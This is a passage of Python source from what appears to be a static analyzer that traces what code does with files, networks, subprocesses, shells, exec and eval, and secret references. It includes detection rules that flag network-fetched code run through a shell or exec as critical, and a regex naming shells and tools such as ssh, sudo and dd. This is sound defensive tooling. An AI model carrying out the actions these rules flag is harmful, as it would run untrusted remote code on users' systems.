        if _is_pure(owner) and owner not in PURE_MODULES and name in DATA_NAMES:
            return DATA
        return self._not_known(full)

    def _not_known(self, what: str) -> Value:
        self.doubt(what)
        return DATA

    def _data_attribute(self, atom: Atom, name: str, arguments: _Arguments | None) -> Value:
        """An attribute of plain data: one of those that only compute, or of the code's own classes."""
        result: Value = NETWORK if atom == Atom("data", "network") else DATA
        if atom.kind == "text":
            result = TEXT
        if name in PATH_METHODS and self.loose_paths and name not in self.attributes:
            moved = (
                name in ("rename", "replace", "move")
                and arguments is not None
                and len(arguments.positional) != 1
            )
            if not moved and name not in ("walk", "copy"):
                self._path_method(Atom("path", UNKNOWN), name, arguments or _Arguments([], {}, unknown=True))
                return DATA
        if name in self.attributes or name in DATA_NAMES:
            return result
        if name in _METHODS:
            return self._method(atom, name, arguments or _Arguments([], {}, unknown=True))
        if (
            name in PATH_PLAIN
            or name in PATH_SAME
            or name in ("parent", "parents", "relative_to", "joinpath", "with_suffix", "with_name")
        ):
            return result
        if atom in OWN and not name.startswith("__") and name not in PATH_METHODS:
            found = self.of_own(name)
            return found if arguments is None or found == OWN else self.call(found, arguments)
        self.doubt(f"the attribute {name}")
        return result

    def _path_attribute(self, atom: Atom, name: str) -> Value:
        if name in PATH_METHODS:
            self._path_method(atom, name, _Arguments([], {}, unknown=True))
            return DATA
        path = atom.value
        if name in ("name", "stem", "suffix"):
            return (Atom("text", path.rpartition("/")[2]),) if name == "name" and is_static(path) else TEXT
        if name == "parent":
            return (
                Atom(
                    "path",
                    _joined(path, "..")
                    if not is_static(path) or "/" not in path
                    else path.rpartition("/")[0] or "/",
                ),
            )
        if name == "parents":
            return (Atom("many", (Atom("path", UNKNOWN),)),)
        if name in PATH_PLAIN or name in PATH_SAME:
            return DATA
        if name in ("joinpath", "with_suffix", "with_name", "with_stem", "relative_to"):
            self.loose_paths = True
            return DATA
        if name == "__class__":
            self.loose_paths = True
            return DATA
        self.doubt(f"the attribute {name}")
        return DATA

    # calls

    def _e_Call(self, node: Any) -> Value:
        function = node.func
        attribute = type(function).__name__ == "Attribute"
        base = self.evaluate(function.value) if attribute else self.evaluate(function)
        arguments = self._arguments(node)
        if not attribute:
            return self.call(base, arguments)
        out: list[Value] = []
        for atom in base:
            if atom.kind == "ref":
                out.append(self._call_member(atom.value, function.attr, arguments))
            else:
                out.append(self.call_method(atom, function.attr, arguments))
        return self.join(*out)

    def _call_member(self, owner: str, name: str, arguments: _Arguments) -> Value:
        if owner == "os.environ":
            return self._environ_method(name, arguments)
        if owner == "sys.path" or owner == "sys.argv":
            if name not in ("copy", "index", "count"):
                self.doubt(f"a change of {owner}")
            return (Atom("many", TEXT),)
        return self.call(self._member(owner, name), arguments)

    def _arguments(self, node: Any) -> _Arguments:
        positional: list[Value] = []
        named: dict[str, Value] = {}
        unknown = False
        for part in node.args:
            if type(part).__name__ == "Starred":
                value = self.evaluate(part.value)
                if (
                    len(value) == 1
                    and value[0].kind == "items"
                    and value[0] not in self.changed
                    and not _has_rest(value[0].value)
                    and not unknown
                ):
                    positional.extend(value[0].value)
                else:
                    unknown = True
                    positional.append(self.element(value))
            else:
                positional.append(self.evaluate(part))
        for keyword in node.keywords:
            value = self.evaluate(keyword.value)
            if keyword.arg is not None:
                named[keyword.arg] = value
                continue
            for atom in value:
                if (
                    atom.kind == "dict"
                    and atom not in self.changed
                    and all(len(k) == 1 and k[0].kind == "text" for k, _ in atom.value)
                ):
                    named.update({k[0].value: v for k, v in atom.value})
                else:
                    unknown = True
                    positional.append(self.element((atom,)))
        return _Arguments(positional, named, unknown)

    def call(self, function: Value, arguments: _Arguments) -> Value:
        """The result of calling any of what the value may be."""
        out: list[Value] = []
        for atom in function:
            if atom.kind == "ref":
                out.append(self.call_ref(atom.value, arguments))
            elif atom.kind == "func":
                out.append(self._call_function(atom, arguments))
            else:
                for value in arguments.all():
                    self.escape(value)
                network = atom == Atom("data", "network") or arguments.has_network()
                out.append(NETWORK if network else OWN if atom in OWN else DATA)
        return self.join(*out)

    def _call_function(self, atom: Atom, arguments: _Arguments) -> Value:
        node = self.functions[atom.value]
        parameters = node.args
        plain = [argument.arg for argument in (*parameters.posonlyargs, *parameters.args)]
        for at, value in enumerate(arguments.positional):
            if arguments.unknown or at >= len(plain):
                for name in _parameters(node):
                    self.bind_parameter(name, self.join(value, DATA))
                self.escape(value)
            else:
                self.bind_parameter(plain[at], value)
        names = set(_parameters(node))
        for name, value in arguments.named.items():
            if name in names:
                self.bind_parameter(name, value)
            else:
                self.escape(value)
        self.called[atom.value] = None
        if atom.value not in self.run:
            return ()
        result = self.names.get(f"return {atom.value}", ()) or NONE
        return self.join(result, DATA) if type(node).__name__ == "AsyncFunctionDef" else result

    def call_ref(self, name: str, arguments: _Arguments) -> Value:
        """A call of something of the library."""
        special = _SPECIAL.get(name)
        if special is not None:
            return getattr(self, special)(name, arguments)  # type: ignore[no-any-return]
        table = CALLS.get(name)
        if table is not None:
            for operation in table.split():
                self._operation(name, operation, arguments)
            for value in arguments.all():
                self.escape(tuple(atom for atom in value if atom.kind != "path"))
            return self._result(name)
        if name.startswith(("pathlib.Path.", "pathlib.PosixPath.")):
            method = name.rpartition(".")[2]
            if arguments.unknown or not arguments.positional:
                return (
                    self._path_method(Atom("path", UNKNOWN), method, arguments)
                    if method in PATH_METHODS
                    else DATA
                )
            first, *rest = arguments.positional
            return self.join(
                *[
                    self.call_method(
                        Atom("path", text), method, _Arguments(rest, arguments.named, arguments.unknown)
                    )
                    for text in self.texts_of(first)
                ]
            )
        if _is_pure(name):
            return self._pure(name, arguments)
        self.doubt(name)
        for value in arguments.all():
            self.escape(value)
        return DATA

    def _result(self, name: str) -> Value:
        if name.startswith(("requests.", "urllib", "httpx.", "socket.", "http.client")):
            return NETWORK
        if name == "os.listdir":
            return (Atom("many", (Atom("text", STAR),)),)
        if name in ("os.walk", "os.fwalk"):
            names: Value = (Atom("many", (Atom("text", STAR),)),)
            return (Atom("many", (Atom("items", (TEXT, names, names)),)),)
        return DATA

    # pure functions

    def _pure(self, name: str, arguments: _Arguments) -> Value:
        short = name.removeprefix("builtins.") if name.startswith("builtins.") else ""
        if short in _LOOKING:
            for key, value in arguments.named.items():
                if key not in ("file", "end", "sep", "flush"):
                    self.escape(value)
            for value in arguments.positional:
                for atom in value:
                    if atom.kind == "ref" and atom.value in _SECRET_REFS:
                        self._use(atom.value)
                    elif atom.kind not in ("ref", "path"):
                        self.escape((atom,))
                    elif (
                        atom.kind == "ref"
                        and not _is_pure(atom.value)
                        and short in ("int", "float", "format", "str")
                    ):
                        self._use(atom.value)
            if short in ("str", "format") and len(arguments.positional) >= 1 and not arguments.unknown:
                first = arguments.positional[0]
                return (
                    NETWORK
                    if Atom("data", "network") in first
                    else (Atom("text", self.text_of(first)) if short == "str" else Atom("text", UNKNOWN),)
                )
            return DATA
        first = arguments.positional[0] if arguments.positional and not arguments.unknown else DATA
        if short in _KEEPING or short in (
            "enumerate",
            "zip",
            "map",
            "filter",
            "max",
            "min",
            "next",
            "dict",
            "sum",
            "range",
        ):
            return self._container(short, first, arguments)
        if short == "chr" and len(first) == 1 and first[0].kind == "const" and type(first[0].value) is int:
            code = first[0].value
            return (Atom("text", chr(code)),) if 4 < code < 0x110000 and not 0xD800 <= code < 0xE000 else TEXT
        if name in _DECODERS and len(first) == 1 and first[0].kind == "text" and is_static(first[0].value):
            return (Atom("text", _decoded(name, first[0].value)),)
        if short in ("bytes", "bytearray") and len(first) == 1 and first[0].kind == "text":
            return first
        if short in ("bytes", "bytearray") and len(first) == 1 and first[0].kind == "items":
            codes = [v[0].value for v in first[0].value if len(v) == 1 and v[0].kind == "const"]
            if len(codes) == len(first[0].value) and all(type(c) is int and 4 < c < 256 for c in codes):
                return (Atom("text", bytes(codes).decode("utf-8", "replace")),)
        if name in _PATH_CLASSES:
            return self._new_path(arguments)
        if name.startswith("os.path."):
            return self._os_path(name[8:], arguments)
        if name in ("sys.stdout.write", "sys.stderr.write", "sys.stdout.buffer.write"):
            return DATA
        if (
            name == "shlex.split"
            and len(first) == 1
            and first[0].kind == "text"
            and is_static(first[0].value)
        ):
            import shlex

            try:
                return (Atom("items", tuple((Atom("text", word),) for word in shlex.split(first[0].value))),)
            except ValueError:
                return DATA
        for value in arguments.all():
            self.escape(value)
        if name in ("os.getcwd", "os.getcwdb"):
            return (Atom("text", "."),)
        if name == "tempfile.gettempdir":
            return (Atom("text", "/tmp"),)
        if name in ("tempfile.mkdtemp", "tempfile.TemporaryDirectory"):
            return (Atom("text", f"/tmp/{STAR}"),)
        if name in _TEXTS or short in ("hex", "oct", "bin", "repr", "ascii"):
            return TEXT
        return NETWORK if arguments.has_network() else DATA

    def _container(self, short: str, first: Value, arguments: _Arguments) -> Value:
        for value in arguments.named.values():
            self.escape(value)
        if arguments.unknown or not arguments.positional:
            for value in arguments.positional:
                self.escape(value)
            return (
                (Atom("items", ()),)
                if short in ("list", "tuple", "set", "dict") and not arguments.all()
                else DATA
            )
        if short in _KEEPING:
            if (
                short in ("list", "tuple", "iter")
                and len(first) == 1
                and first[0].kind == "items"
                and first[0] not in self.changed
            ):
                return first
            return (Atom("many", self.element(first)),)
        if short == "enumerate":
            return (Atom("many", (Atom("items", (DATA, self.element(first))),)),)
        if short == "zip":
            return (
                Atom("many", (Atom("items", tuple(self.element(value) for value in arguments.positional)),)),
            )
        if short in ("map", "filter"):
            elements = [self.element(value) for value in arguments.positional[1:]]
            result = self.call(tuple(a for a in first if a != Atom("const", None)), _Arguments(elements, {}))
            return (Atom("many", result if short == "map" else self.join(*elements)),)
        if short in ("max", "min", "next"):
            if len(arguments.positional) == 1:
                return self.element(first)
            return self.join(self.element(first) if short == "next" else first, *arguments.positional[1:])
        for value in arguments.positional:
            self.escape(value)
        return DATA

    def element(self, value: Value) -> Value:
        """What going through the value gives."""
        self.steps += 1
        out: list[Value] = []
        for atom in value:
            if atom.kind == "items":
                out.extend(
                    part[0].value if len(part) == 1 and part[0].kind == "rest" else part
                    for part in atom.value
                )
                out.append(self.changed.get(atom, ()))
                if not atom.value and atom not in self.changed:
                    out.append(())
            elif atom.kind == "many":
                out.append(atom.value)
                out.append(self.changed.get(atom, ()))
            elif atom.kind == "dict":
                out.extend(key for key, _ in atom.value)
                out.append(DATA)
                self.escape(self.changed.get(atom, ()))
            elif atom.kind == "text":
                out.append(TEXT)
            elif atom.kind == "ref":
                if atom.value == "sys.argv" or atom.value == "sys.path" or atom.value in _SECRET_REFS:
                    out.append(TEXT)
                elif _is_pure(atom.value):
                    out.append(DATA)
                else:
                    self.doubt(atom.value)
                    out.append(DATA)
            elif atom.kind == "data":
                out.append((atom,))
            elif atom.kind == "func":
                self._free(atom)
                out.append(DATA)
            else:
                out.append(DATA)
        return self.join(*out)

    def element_of_dict(self, atom: Atom) -> Value:
        """Any value of a dictionary."""
        return self.join(*[value for _, value in atom.value], self.changed.get(atom, ()), DATA)

    # texts and paths

    def texts_of(self, value: Value) -> list[str]:
        """The texts that a value may be as a path, a command, a name."""
        out: dict[str, None] = {}
        for atom in value:
            if atom.kind in ("text", "path"):
                out[atom.value] = None
            elif atom.kind == "const" and type(atom.value) is int:
                out[str(atom.value)] = None
            elif atom.kind == "const" and atom.value is None:
                continue
            else:
                if atom.kind == "ref" and atom.value in _SECRET_REFS:
                    self._use(atom.value)
                elif atom.kind == "dict":
                    self.escape((atom,))
                out[UNKNOWN] = None
        return list(out) or [UNKNOWN]

    def text_of(self, value: Value) -> str:
        """The text that a value surely is, else an unknown one."""
        texts = self.texts_of(value)
        return texts[0] if len(texts) == 1 else UNKNOWN

    def _new_path(self, arguments: _Arguments) -> Value:
        if arguments.unknown:
            return (Atom("path", UNKNOWN),)
        path = "."
        for value in arguments.positional:
            path = _joined(path, self.text_of(value)) if path != "." else self.text_of(value)
        return (Atom("path", path),)

    def _os_path(self, name: str, arguments: _Arguments) -> Value:
        first = arguments.get(0, "path")
        text = UNKNOWN if first is None else self.text_of(first)
        if name == "join" and not arguments.unknown and arguments.positional:
            path = self.text_of(arguments.positional[0])
            for value in arguments.positional[1:]:
                path = _joined(path, self.text_of(value))
            return (Atom("text", path),)
        if name in ("expanduser", "abspath", "realpath", "normpath", "expandvars"):
            return (Atom("text", _expanded(text)),)
        if name == "dirname":
            return (Atom("text", text.rpartition("/")[0]),) if is_static(text) else TEXT
        if name == "basename":
            return (
                (Atom("text", text.rpartition("/")[2]),)
                if is_static(text.rpartition("/")[2]) and text
                else TEXT
            )
        for value in arguments.all():
            self.escape(tuple(atom for atom in value if atom.kind != "path"))
        if name in ("split", "splitext"):
            return (Atom("items", (TEXT, TEXT)),)
        return DATA

    def _path_method(self, atom: Atom, name: str, arguments: _Arguments) -> Value:
        """A method of a path that touches the file."""
        what = PATH_METHODS[name]
        path = atom.value
        first = arguments.get(0, "target")
        if what == "read":
            self.out.extend(opened(path))
            return TEXT
        if what == "write":
            self.out.extend(opened(path, "write"))
        elif what == "create":
            self.out.extend(opened(path, "create"))
        elif what == "delete":
            self.out.append(Effect(Kind.DELETE, path))
        elif what == "mode":
            self.out.append(Effect(Kind.MODE, path, self._mode(arguments.get(0, "mode"))))
        elif what in ("move", "copy"):
            to = UNKNOWN if first is None else self.text_of(first)
            if what == "move":
                self.out.append(Effect(Kind.MOVE, path, to=to))
            else:
                self.out.extend((*opened(path), *opened(to, "write")))
            return (Atom("path", to),)
        elif what == "link-here":
            self.out.append(
                Effect(Kind.WRITE, path, "link", to=UNKNOWN if first is None else self.text_of(first))
            )
        elif what == "open":
            return self._open_path(path, arguments.get(0, "mode"), unknown=arguments.unknown)
        elif what in ("list", "list-tree"):
            pattern = "*" if name == "iterdir" else self.text_of(arguments.get(0, "pattern") or TEXT)
            self.out.append(Effect(Kind.READ, path, recursive=what == "list-tree" or "**" in pattern))
            if name == "walk":
                return self._result("os.walk")
            inner = UNKNOWN if what == "list-tree" else _globbed(pattern)
            return (Atom("many", (Atom("path", f"{path}/{inner}"),)),)
        return DATA

    def _open_path(self, path: str, mode: Value | None, *, unknown: bool = False) -> Value:
        text = "r" if mode is None and not unknown else self.text_of(mode or TEXT)
        if not is_static(text):
            self.out.extend((*opened(path), *opened(path, "write")))
        else:
            if "r" in text or "+" in text or not re.search("[wax]", text):
                self.out.extend(opened(path))
            if "w" in text:
                self.out.extend(opened(path, "write"))
            elif "a" in text:
                self.out.extend(opened(path, "append"))
            elif "x" in text:
                self.out.extend(opened(path, "create"))
            elif "+" in text:
                self.out.extend(opened(path, "edit"))
        return DATA

    def _mode(self, value: Value | None) -> str:
        if value is not None and len(value) == 1 and value[0].kind == "const" and type(value[0].value) is int:
            return f"{value[0].value:o}"
        return UNKNOWN

    # methods

    def call_method(self, atom: Atom, name: str, arguments: _Arguments) -> Value:
        """A method called on something that is not of a module."""
        kind = atom.kind
        if kind == "path":
            if name in PATH_METHODS:
                return self._path_method(atom, name, arguments)
            if name == "joinpath":
                return self._new_path(_Arguments([(atom,), *arguments.positional], {}, arguments.unknown))
            if name in PATH_SAME:
                return (Atom("path" if name != "as_posix" else "text", _expanded(atom.value)),)
            if name in ("with_suffix", "with_name", "with_stem"):
                folder, slash, _ = atom.value.rpartition("/")
                return (Atom("path", f"{folder}{slash}{STAR}" if is_static(atom.value) else UNKNOWN),)
            if name == "relative_to":
                return (Atom("path", UNKNOWN),)
            if name in PATH_PLAIN:
                return DATA
            return self._path_attribute(atom, name)
        if kind == "text":
            return self._text_method(atom, name, arguments)
        if kind in ("items", "many", "dict"):
            return self._list_method(atom, name, arguments)
        if kind == "func":
            self.attribute(atom, name)
            for value in arguments.all():
                self.escape(value)
            return DATA
        if name in _METHODS and name not in self.attributes:
            return self._method(atom, name, arguments)
        if name == "query" and arguments.positional:
            self.doubt("a query text")
        if (
            name == "read"
            and "configparser" in self.imported
            and arguments.positional
            and any(a.kind != "const" for a in arguments.positional[0])
        ):
            for text in self.texts_of(arguments.positional[0]):
                self.out.extend(opened(text))
        if kind == "const":
            for value in arguments.all():
                self.escape(value)
            return self.attribute(atom, name)
        if (
            name == "write"
            and arguments.positional
            and (
                "zipfile" in self.imported
                or "xml.etree.ElementTree" in self.imported
                or "xml.etree" in self.imported
            )
        ):
            path = self.text_of(arguments.positional[0])
            if is_static(path) or "zipfile" not in self.imported:
                self.out.extend(opened(path, "" if "zipfile" in self.imported else "write"))
        result = self._data_attribute(atom, name, arguments)
        for value in arguments.all():
            self.escape(value)
        return result

    def _text_method(self, atom: Atom, name: str, arguments: _Arguments) -> Value:
        text = atom.value
        values = [self.text_of(value) for value in arguments.positional]
        if name == "join" and len(arguments.positional) == 1 and not arguments.unknown:
            value = arguments.positional[0]
            if (
                len(value) == 1
                and value[0].kind == "items"
                and value[0] not in self.changed
                and not _has_rest(value[0].value)
            ):
                return (Atom("text", _short(text.join(self.text_of(part) for part in value[0].value))),)
        for value in arguments.all():
            self.escape(value)
        if name not in DATA_NAMES:
            return self._data_attribute(atom, name, arguments)
        if name == "format" and not arguments.unknown:
            return (Atom("text", self._formatted(text, values, arguments)),)
        static = (
            is_static(text) and all(map(is_static, values)) and not arguments.unknown and not arguments.named
        )
        if name in ("encode", "decode") and not (
            values and "utf" not in values[0].lower() and values[0].lower() not in ("ascii", "latin1")
        ):
            return (atom,)
        if (
            static
            and len(text) < 5000
            and name
            in (
                "lower",
                "upper",
                "strip",
                "lstrip",
                "rstrip",
                "title",
                "swapcase",
                "replace",
                "removeprefix",
                "removesuffix",
                "split",
            )
        ):
            try:
                result = getattr(text, name)(*values)
            except (TypeError, ValueError):
                return TEXT
            if isinstance(result, list):
                return (
                    (Atom("items", tuple((Atom("text", part),) for part in result[:50])),)
                    if len(result) < 50
                    else (Atom("many", TEXT),)
                )
            return (Atom("text", _short(result)),)
        if name in _TEXT_METHODS:
            return TEXT
        if name in ("split", "rsplit", "splitlines", "partition", "rpartition"):
            return (Atom("many", TEXT),)
        return DATA

    def _formatted(self, text: str, values: list[str], arguments: _Arguments) -> str:
        out: list[str] = []
        count = 0
        at = 0
        for match in re.finditer(r"\{\{|\}\}|\{([^{}]*)\}", text):
            out.append(text[at : match.start()])
            at = match.end()
            field = match[1]
            if field is None:
                out.append(match[0][0])
            elif field == "" or field.isdigit():
                index = int(field[:3]) if field else count
                count += 1
                out.append(values[index] if index < len(values) else UNKNOWN)
            else:
                value = arguments.named.get(field)
                out.append(UNKNOWN if value is None else self.text_of(value))
        out.append(text[at:])
        return _short("".join(out))

    def _list_method(self, atom: Atom, name: str, arguments: _Arguments) -> Value:
        for value in arguments.named.values():
            if name == "update":
                self._put(atom, value)
            else:
                self.escape(value)
        if name in _MUTATING:
            for value in arguments.positional:
                self._put(atom, self.element(value) if name in ("extend", "update", "extendleft") else value)
            return self.element_of_dict(atom) if atom.kind == "dict" else DATA
        if name in ("pop", "popleft", "get", "popitem"):
            default = self.join(*arguments.positional[1:]) if name in ("pop", "get") else ()
            inner = self.element_of_dict(atom) if atom.kind == "dict" else self.element((atom,))
            if name in ("pop", "popleft", "popitem") and atom.kind != "dict":
                self._put(atom, inner)
            return self.join(inner, default)
        if name == "copy":
            return (atom,) if atom.kind != "items" else (Atom("many", self.element((atom,))),)
        if name == "values" and atom.kind == "dict":
            return (Atom("many", self.element_of_dict(atom)),)
        if name == "items" and atom.kind == "dict":
            return (Atom("many", (Atom("items", (self.element((atom,)), self.element_of_dict(atom))),)),)
        if name == "keys" and atom.kind == "dict":
            return (Atom("many", self.element((atom,))),)
        if name in ("remove", "insert", "clear", "reverse", "sort"):
            self._put(atom, self.element((atom,)))
            return DATA
        for value in arguments.positional:
            self.escape(value)
        return self.attribute(atom, name)

    def _method(self, atom: Atom, name: str, arguments: _Arguments) -> Value:
        """Methods of objects out of sight that reach outside."""
        kind, position, keyword, detail = _METHODS[name]
        value = arguments.get(position, keyword)
        if kind == "optional" and value is None and not arguments.unknown:
            return TEXT
        for other in arguments.all():
            self.escape(tuple(a for a in other if a.kind not in ("path", "items")))
        texts = [UNKNOWN] if value is None else self.texts_of(value)
        for text in texts:
            if kind in ("write", "optional"):
                self.out.extend(opened(text, "write"))
            elif kind == "read":
                self.out.extend(opened(text))
            elif kind == "unpack":
                self.out.append(
                    Effect(
                        Kind.WRITE,
                        "." if value is None and not arguments.unknown else text,
                        "unpack",
                        recursive=True,
                    )
                )
            elif kind == "sql":
                self.out.append(RunCode("sql", text))
            elif kind == "connect":
                self._connect(value, detail)
            elif kind == "upload":
                self.out.append(Effect(Kind.NETWORK, UNKNOWN, detail))
            elif kind == "process":
                self.out.append(Effect(Kind.PROCESS, UNKNOWN, detail))
        return NETWORK if kind in ("connect", "upload") or atom == Atom("data", "network") else DATA

    def _connect(self, value: Value | None, detail: str) -> None:
        """An address is a pair of host and port, or a file of the local machine."""
        for atom in value or DATA:
            host = UNKNOWN
            if atom.kind == "items" and atom.value:
                host = self.text_of(atom.value[0])
            elif atom.kind == "text":
                host = atom.value
                if host.startswith("/"):
                    self.out.extend(opened(host))
                    continue
            self.out.append(Effect(Kind.NETWORK, host or UNKNOWN, detail))
            if detail == "connect":
                self.flags["connect"] = host or UNKNOWN
            elif detail == "listen":
                self.flags.setdefault("connect", host or UNKNOWN)

    # operations of the table

    def _operation(self, name: str, operation: str, arguments: _Arguments) -> None:
        kind, position, keyword = operation.split(":")
        value = arguments.get(int(position), keyword)
        if (
            value is None
            and not arguments.unknown
            and kind in ("read", "tree")
            and name in ("os.listdir", "os.scandir")
        ):
            value = (Atom("text", "."),)
        if (
            value is not None
            and kind in ("read", "write", "source")
            and all(a.kind == "data" for a in value)
            and value
            and not arguments.unknown
            and name.startswith(("xml.", "tarfile.", "zipfile.", "pandas.", "numpy.", "toml.", "torch."))
        ):
            return  # a file that was opened before
        texts = [UNKNOWN] if value is None else self.texts_of(value)
        for text in texts:
            self._operate_on(name, kind, text, value, arguments)

    def _operate_on(
        self, name: str, kind: str, text: str, value: Value | None, arguments: _Arguments
    ) -> None:
        out = self.out
        if kind == "read":
            out.extend(opened(text))
        elif kind == "tree":
            out.append(Effect(Kind.READ, text, recursive=True))
        elif kind in ("write", "append", "edit", "create"):
            out.extend(opened(text, kind))
        elif kind == "unpack":
            out.append(
                Effect(
                    Kind.WRITE,
                    "." if value is None and not arguments.unknown else text,
                    "unpack",
                    recursive=True,
                )
            )
        elif kind in ("delete", "delete-tree"):
            out.append(Effect(Kind.DELETE, text, recursive=kind == "delete-tree"))
        elif kind in ("move", "link"):
            other = arguments.get(1, "dst") or arguments.get(1, "new")
            to = UNKNOWN if other is None else self.text_of(other)
            out.append(
                Effect(Kind.MOVE, text, to=to) if kind == "move" else Effect(Kind.WRITE, to, "link", to=text)
            )
        elif kind == "mode":
            out.append(
                Effect(
                    Kind.MODE, text, self._mode(arguments.get(1, "mode")) if "copy" not in name else UNKNOWN
                )
            )
        elif kind == "owner":
            owner = arguments.get(1, "user") or arguments.get(1, "uid")
            out.append(Effect(Kind.OWNER, text, UNKNOWN if owner is None else self.text_of(owner)))
        elif kind == "shell":
            self._shell(text, value)
        elif kind == "argv":
            self._argv(name, value, arguments)
        elif kind == "process":
            out.append(Effect(Kind.PROCESS, text, "signal"))
        elif kind == "user":
            out.append(Effect(Kind.PRIVILEGE, "root" if text == "0" else text))
        elif kind in ("download", "request", "upload", "change"):
            self._network(text, kind, arguments)
        elif kind == "source":
            if "://" in text:
                out.append(Effect(Kind.NETWORK, text, "download"))
            else:
                out.extend(opened(text))
        elif kind in ("connect", "listen"):
            self._connect(value, kind)
        elif kind == "file":
            out.append(RunFile(text, "python"))
        elif kind == "code":
            self.doubt(name)

    def _network(self, url: str, kind: str, arguments: _Arguments) -> None:
        if any(arguments.has(key) for key in ("data", "json", "files")) and kind != "change":
            kind = "upload"
        if kind == "change":
            self.out.append(Effect(Kind.REMOTE, url, "delete"))
        else:
            self.out.append(Effect(Kind.NETWORK, url, kind))

    def _shell(self, text: str, value: Value | None) -> None:
        if value is not None and Atom("data", "network") in value:
            self.out.append(
                Effect(Kind.EXECUTE, "code that comes over the network", "shell", force="critical")
            )
            return
        self.out.append(RunShell(text))
        self.flags["runs"] = text

    def _argv(self, name: str, value: Value | None, arguments: _Arguments) -> None:
        for words in self._words(value):
            if name == "pty.spawn":
                self.flags["shell"] = ""
            self.out.append(RunCommand(words))

    def _words(self, value: Value | None) -> list[tuple[str, ...]]:
        """The words of a command given as a list."""
        out: list[tuple[str, ...]] = []
        for atom in value or DATA:
            if atom.kind == "items":
                words = [
                    MANY if len(part) == 1 and part[0].kind == "rest" else self.text_of(part)
                    for part in atom.value
                ]
                if atom in self.changed or not words:
                    words.append(MANY)
                out.append(tuple(words))
            elif atom.kind in ("text", "path"):
                out.append((atom.value,))
            else:
                out.append((UNKNOWN, MANY))
        return out

    # special functions

    def s_subprocess(self, name: str, arguments: _Arguments) -> Value:
        """``subprocess.run`` and its like."""
        value = arguments.get(0, "args")
        shell = arguments.named.get("shell")
        through_shell = arguments.unknown or (
            shell is not None and shell not in ((Atom("const", False),), NONE)
        )
        folder = arguments.named.get("cwd")
        directory = None if folder is None or folder == NONE else self.text_of(folder)
        environment, clears = self._child_environment(arguments.named.get("env"))
        stdin = arguments.named.get("stdin")
        quiet = stdin is not None and stdin == (Atom("ref", "subprocess.DEVNULL"),)
        if (
            arguments.has("executable", "preexec_fn", "startupinfo", "user", "group", "pass_fds")
            or environment is None
        ):
            self.doubt(f"{name} with unusual options")
        if arguments.has("input") or (stdin is not None and not quiet and stdin != NONE):
            if stdin is not None and stdin != (Atom("ref", "subprocess.PIPE"),):
                self.flags["shell"] = ""
            self._fed(value, arguments, through_shell=through_shell)
        if value is not None and Atom("data", "network") in value:
            self.out.append(
                Effect(Kind.EXECUTE, "code that comes over the network", "command", force="critical")
            )
        elif arguments.unknown and value is None:
            self.out.append(RunShell(UNKNOWN))
        elif through_shell:
            for words in self._words(value):
                self.out.append(RunShell(words[0], words[1:], directory=directory))
        else:
            for words in self._words(value):
                self.out.append(
                    RunCommand(words, directory, environment or (), clears, keeps_stdin=not quiet)
                )
        for key, other in arguments.named.items():
            if key not in ("args", "env", "cwd", "shell", "stdin", "stdout", "stderr"):
                self.escape(other)
        return DATA

    def _fed(self, value: Value | None, arguments: _Arguments, *, through_shell: bool) -> None:
        """A command whose standard input is written by the code: as ``cat FILE | command``."""
        for words in self._words(value):
            program = words[0].split()[0] if through_shell and words[0].split() else words[0]
            program = program.rpartition("/")[2]
            given = arguments.named.get("input")
            if (
                not is_static(program)
                or through_shell
                or re.match(
                    r"(ba|da|z|k|fi)?sh$|python|perl|ruby|node|php|psql|mysql|sqlite3|xargs|sudo|ssh|tee|dd",
                    program,
                )
            ):
                text = UNKNOWN if given is None else self.text_of(given)
                if re.match(r"(ba|da|z|k)?sh$", program) and len(words) == 1:
                    self.out.append(RunShell(text))
                else:
                    self.doubt(f"what {program} is given to read")

    def _child_environment(self, value: Value | None) -> tuple[tuple[tuple[str, str], ...] | None, bool]:
        if value is None or value == NONE:
            return (), False
        if len(value) != 1 or value[0].kind != "dict" or value[0] in self.changed:
            return ((), False) if value == (Atom("ref", "os.environ"),) else (None, False)
        pairs: list[tuple[str, str]] = []
        clears = True
        for key, item in value[0].value:
            if key == (Atom("data", "environ"),):
                clears = False
                continue
            name = self.text_of(key)
            if not is_static(name):
                return None, False
            pairs.append((name, self.text_of(item)))
        return tuple(pairs), clears

    def s_exec(self, name: str, arguments: _Arguments) -> Value:
        """``os.exec…``, ``os.spawn…``: the words as a list or one by one."""
        short = name.rpartition(".")[2]
        values = list(arguments.positional)
        if short.startswith("spawn"):
            values = values[1:]
        if arguments.unknown or len(values) < 2:
            self.out.append(RunCommand((UNKNOWN, MANY)))
            return DATA
        program = self.text_of(values[0])
        if "l" in short.replace("spawnl", "l").replace("execl", "l") and "v" not in short:
            rest = values[2:-1] if short.endswith("e") else values[2:]
            words = (program, *[self.text_of(value) for value in rest])
            self.out.append(RunCommand(words))
        else:
            for found in self._words(values[1]):
                self.out.append(RunCommand((program, *found[1:])))
        if short.endswith("e"):
            self.doubt(f"{name} with an environment")
        return DATA

    def s_open(self, name: str, arguments: _Arguments) -> Value:
        """``open`` and its relatives."""
        value = arguments.get(0, "file") or arguments.get(0, "filename") or arguments.get(0, "name")
        if arguments.has("opener"):
            self.doubt("open with an opener")
        if value is not None and len(value) == 1 and value[0].kind == "const" and type(value[0].value) is int:
            return DATA
        if (
            name in ("zipfile.ZipFile", "tarfile.open", "gzip.open", "bz2.open", "lzma.open")
            and value is not None
            and all(a.kind == "data" for a in value)
        ):
            return DATA
        mode = arguments.get(1, "mode")
        if name in ("sqlite3.connect", "dbm.open"):
            for text in self.texts_of(value or TEXT):
                if text != ":memory:":
                    self.out.extend(opened(text))
            return DATA
        for text in self.texts_of(value or TEXT):
            self._open_path(text, mode, unknown=arguments.unknown)
        return DATA

    def s_os_open(self, name: str, arguments: _Arguments) -> Value:
        """``os.open`` with flags: for writing unless they are plainly for reading."""
        path = self.text_of(arguments.get(0, "path") or TEXT)
        if arguments.get(1, "flags") == (Atom("ref", "os.O_RDONLY"),):
            self.out.extend(opened(path))
        else:
            self.out.extend(opened(path, "write"))
        return DATA

    def s_code(self, name: str, arguments: _Arguments) -> Value:
        """``exec``, ``eval`` and ``compile``: the text is read as part of this code."""
        value = arguments.get(0, "source") or arguments.get(0, "stmt")
        for other in arguments.positional[1:]:
            self.escape(tuple(a for a in other if a.kind != "text"))
        for key, other in arguments.named.items():
            if key not in ("source", "stmt", "setup"):
                self.escape(other)
        if value is not None and Atom("data", "network") in value:
            self.out.append(
                Effect(
                    Kind.EXECUTE,
                    "code that comes over the network",
                    name.rpartition(".")[2],
                    force="critical",
                )
            )
            return DATA
